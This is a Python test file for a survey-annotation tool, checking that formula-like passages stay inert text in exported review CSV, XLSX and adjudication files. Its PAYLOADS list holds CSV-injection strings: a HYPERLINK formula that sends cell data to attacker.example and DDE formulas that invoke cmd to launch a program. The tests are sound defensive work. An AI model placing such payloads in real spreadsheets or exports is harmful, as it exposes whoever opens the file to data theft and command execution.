"""Formula injection (OWASP "CSV injection"): passages that begin like a formula stay inert text
in the review CSV/XLSX and adjudication files coders open, and come back unchanged."""

import csv

import pytest

from stancemap.annotations.importer import import_decisions
from stancemap.annotations.review import Decision
from stancemap.annotations.review_project import export_adjudication, export_review, import_review
from stancemap.corpus.spreadsheet import is_formula_like
from stancemap.corpus.store import Store

PAYLOADS = ['=HYPERLINK("http://attacker.example/?x="&A1,"Click for the report")',
            "=cmd|' /C calc'!A0 was typed into the survey form.",
            "+SUM(1+1)*cmd|' /C calc'!A0 appeared in an answer.",
            "-2+3+cmd|' /C calc'!A0 is another payload.",
            "@SUM(1+1)*cmd|' /C calc'!A0 closes the list."]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A project whose passages begin with the payloads (one paragraph each)."""
    from stancemap.config import Config
    from stancemap.corpus.ingest import ingest

    root = tmp_path_factory.mktemp("hostile")
    (root / "in").mkdir()
    (root / "in" / "answers.txt").write_text("\n\n".join(PAYLOADS) + "\n", encoding="utf-8")
    ingest(root / "in", root / "p", config=Config())
    return root / "p"


def formula_texts(store):
    texts = [t for t in store.passage_texts(set(_passage_ids(store))).values()]
    return [t for t in texts if is_formula_like(t)]


def _passage_ids(store):
    return [p["passage_id"] for d in store.iter_documents() for p in store.passages_of(d["doc_id"])]


def test_csv_cells_are_quoted_and_import_strips_the_quote(hostile, codebook, tmp_path):
    store = Store(hostile, create=False)
    texts = formula_texts(store)
    store.dispose()
    assert len(texts) >= 4
    out = tmp_path / "r.csv"
    export_review(hostile, out, codebook, dims=["sector"])
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    written = [r["text"] for r in rows]
    assert not any(is_formula_like(cell) for row in rows for cell in row.values())
    assert sorted(w[1:] for w in written if w.startswith("'")) == sorted(texts)
    for row in rows:
        row["coder_value"] = "security"
        row["coder_note"] = "'=1+1"  # what a coder's own formula-looking note becomes after export
    with out.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    report = import_review(hostile, out, codebook, annotator="aigerim")  # text_sha still matches
    assert report.decisions == len(rows)
    store = Store(hostile, create=False)
    notes = {c["details"]["note"] for c in _human(store)}
    store.dispose()
    assert notes == {"=1+1"}


def _human(store):
    import sqlalchemy as sa

    from stancemap.corpus.store import codes

    with store.engine.connect() as conn:
        return [dict(r) for r in conn.execute(sa.select(codes).where(codes.c.source.like("human:%"))).mappings()]


def test_xlsx_edited_with_openpyxl_round_trips_unchanged(hostile, codebook, tmp_path):
    import openpyxl

    out = tmp_path / "r.xlsx"
    export_review(hostile, out, codebook, fmt="xlsx", dims=["sector"])
    book = openpyxl.load_workbook(out)
    sheet = book["review"]
    header = [c.value for c in sheet[1]]
    text_col, coder_col = header.index("text") + 1, header.index("coder_value") + 1
    seen = []
    for row in range(2, sheet.max_row + 1):
        for cell in sheet[row]:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
        seen.append(sheet.cell(row, text_col).value)
        sheet.cell(row, coder_col).value = "security"
    book.save(out)
    store = Store(hostile, create=False)
    texts = formula_texts(store)
    store.dispose()
    assert set(texts) <= set(seen)  # the text itself, no quote, as a string cell
    again = openpyxl.load_workbook(out)["review"]  # still no formula after the coder's save
    assert all(c.data_type != "f" for row in again.iter_rows() for c in row)
    report = import_review(hostile, out, codebook, annotator="bolat")
    assert report.decisions == len(seen)


def test_adjudication_files_are_neutralised_too(hostile, codebook, tmp_path):
    store = Store(hostile, create=False)
    ids = _passage_ids(store)
    store.dispose()
    decisions = [Decision(f"row {n}", pid, "sector", "", [value], None, None, coder)
                 for n, pid in enumerate(ids) for coder, value in (("a", "security"), ("b", "energy_oil_gas"))]
    import_decisions(hostile, decisions, codebook, path="two-coders")
    written, count = export_adjudication(hostile, tmp_path / "adj.csv", codebook)
    assert count == len(ids)
    cells = [c for row in csv.reader(written[0].open(encoding="utf-8")) for c in row]
    assert not any(is_formula_like(c) for c in cells)
    export_adjudication(hostile, tmp_path / "adj.xlsx", codebook)
    import openpyxl

    sheet = openpyxl.load_workbook(tmp_path / "adj.xlsx")["review"]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
